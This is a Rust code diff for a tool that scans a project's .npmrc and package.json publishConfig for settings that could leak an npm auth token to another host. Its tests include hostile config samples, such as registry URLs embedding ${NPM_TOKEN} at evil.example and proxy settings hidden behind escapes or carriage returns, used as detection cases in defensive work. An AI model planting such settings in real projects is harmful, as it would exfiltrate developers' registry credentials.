@@ -113,8 +113,11 @@ const OBEYED_VARIABLE_PREFIXES: [&str; 8] =
 pub(crate) fn obstacle_for_npm(folder: &Path, root: &Path, home: &Path) -> Option<String> {
     let own = read(&home.join(".npmrc")).unwrap_or_default();
     let known: Vec<&str> = settings(&own).filter_map(|(name, value)| host_in(name, value)).collect();
-    files(folder, root, &[".npmrc"]).into_iter().find_map(|path| {
+    files(folder, root, &[".npmrc", "package.json"]).into_iter().find_map(|path| {
         let shown = path.strip_prefix(root).unwrap_or(&path).display().to_string();
+        if path.ends_with("package.json") {
+            return publishing_obstacle(&path).map(|what| format!("the project's {shown} {what}"));
+        }
         let Some(text) = read(&path) else { return Some(format!("the project's {shown} can't be read")) };
         settings(&text).find_map(|(name, value)| {
             npm_setting(name, value, &known).map(|what| format!("the project's {shown} {what}"))
@@ -122,7 +125,43 @@ pub(crate) fn obstacle_for_npm(folder: &Path, root: &Path, home: &Path) -> Optio
     })
 }
 
+/// What in a `package.json` could send a token elsewhere: what it says for publishing is obeyed like settings.
+fn publishing_obstacle(path: &Path) -> Option<String> {
+    const HARMLESS: [&str; 14] = [
+        "access",
+        "tag",
+        "registry",
+        "provenance",
+        "directory",
+        "linkDirectory",
+        "executableFiles",
+        "main",
+        "module",
+        "types",
+        "typings",
+        "exports",
+        "browser",
+        "bin",
+    ];
+    let Some(text) = read(path) else { return Some("can't be read".to_owned()) };
+    let settings: serde_json::Value = match serde_json::from_str(text.trim_start_matches('\u{feff}')) {
+        Ok(settings) => settings,
+        Err(_) => return Some("can't be read".to_owned()),
+    };
+    let publishing = settings.get("publishConfig")?.as_object()?;
+    let is_harmless =
+        |name: &str| HARMLESS.contains(&name) || name.starts_with('@') && name.ends_with(":registry");
+    let (name, _) = publishing.iter().find(|(name, value)| {
+        !is_harmless(name) || value.as_str().is_some_and(|value| value.contains("${"))
+    })?;
+    Some(format!("has `publishConfig.{name}`"))
+}
+
 fn npm_setting(name: &str, value: &str, known: &[&str]) -> Option<String> {
+    // What is written with escapes is another text once npm has read it, and so is a name with a variable in it.
+    if name.contains('\\') || value.contains('\\') || !name.starts_with("//") && name.contains("${") {
+        return Some(format!("has `{name}`, written with escapes or variables"));
+    }
     let has_variable = value.contains("${");
     if let Some(rest) = name.strip_prefix("//") {
         let host = rest.split('/').next().unwrap_or_default();
@@ -175,7 +214,8 @@ pub(crate) fn npm_line_is_harmless(line: &str) -> bool {
 
 /// The settings of a file of npm's, as pairs.
 fn settings(text: &str) -> impl Iterator<Item = (&str, &str)> {
-    let lines = text.trim_start_matches('\u{feff}').lines().map(str::trim);
+    // To npm, each of them ends a line.
+    let lines = text.trim_start_matches('\u{feff}').split(['\n', '\r']).map(str::trim);
     let lines = lines.filter(|line| !line.is_empty() && !line.starts_with(['#', ';']));
     lines.map(|line| {
         let (name, value) = line.split_once('=').unwrap_or((line, ""));
@@ -292,6 +332,13 @@ mod tests {
             "//${NPM_TOKEN}.evil.example/:_authToken=x",
             "[section]",
             "_auth=x",
+            "@evil:registry=\"http://evil.example/\\u0024{NPM_\\u0054OKEN}/\"",
+            "@evil:registry='\"http://evil.example/\\u0024{NPM_TOKEN}/\"'",
+            "\"\\u0070roxy\"=http://evil.example",
+            "\"save\\u002dexact\"=true",
+            "color=true\rproxy=http://evil.example",
+            "save-exact=true\r\rhttps-proxy=http://evil.example\n",
+            "@${NPM_TOKEN}:registry=http://evil.example",
         ] {
             assert!(npm(project, "").is_some(), "{project}");
         }
@@ -299,6 +346,29 @@ mod tests {
         assert_eq!(npm("//npm.example/:_authToken=${NPM_TOKEN}", user), None);
         let told = npm("//evil.example/:_authToken=${NPM_TOKEN}", user).unwrap();
         assert!(told.contains("evil.example") && told.contains("~/.npmrc"), "{told}");
+    }
+
+    #[test]
+    fn what_a_package_says_for_publishing_leads_no_token_elsewhere() {
+        let obstacle = |text: &str| {
+            let folder = tempfile::tempdir().unwrap();
+            fs::write(folder.path().join("package.json"), text).unwrap();
+            obstacle_for_npm(folder.path(), folder.path(), folder.path())
+        };
+        for text in
+            ["{}", r#"{"publishConfig": {"access": "public", "@a:registry": "https://npm.example/"}}"#]
+        {
+            assert_eq!(obstacle(text), None, "{text}");
+        }
+        for text in [
+            r#"{"publishConfig": {"https-proxy": "http://evil.example"}}"#,
+            r#"{"publishConfig": {"httpsProxy": "http://evil.example"}}"#,
+            r#"{"publish\u0043onfig": {"strict-ssl": false}}"#,
+            r#"{"publishConfig": {"registry": "http://evil.example/${NPM_TOKEN}/"}}"#,
+            "{",
+        ] {
+            assert!(obstacle(text).is_some(), "{text}");
+        }
     }
 
     fn cargo(project: &str, user: &str) -> Option<String> {
